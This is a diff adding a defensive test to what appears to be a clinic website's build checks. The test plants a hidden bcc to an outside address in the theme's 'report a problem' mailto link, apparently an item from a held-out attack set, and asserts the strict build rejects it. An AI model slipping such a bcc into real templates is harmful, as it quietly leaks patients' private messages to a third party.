@@ -42,3 +42,17 @@ def test_the_privacy_page_says_nothing_is_sent_until_the_patient_sends_it(built_
     text = (built_site.site / "privacy" / "index.html").read_text(encoding="utf-8")
     assert "Is anything wrong with this page?" in text.split('class="hc-report"')[0]
     assert "Nothing is sent" in text
+
+
+def test_a_copy_to_another_address_in_the_theme_link_stops_the_build(project):
+    # A pull request that copies every patient's message to an outside address (held-out
+    # attack set 3): the theme is checked in the built page, as the patient receives it.
+    project.replace(
+        "overrides/partials/report-problem.html",
+        "mailto:{{ config.extra.clinic.email }}?subject=",
+        "mailto:{{ config.extra.clinic.email }}?bcc=feedback%40quality.test&amp;subject=",
+    )
+    built = project.build(strict=True)
+    assert built.returncode != 0
+    assert "the theme's e-mail link 'mailto:" in built.output
+    assert "adds bcc: every patient's message would go there too." in built.output
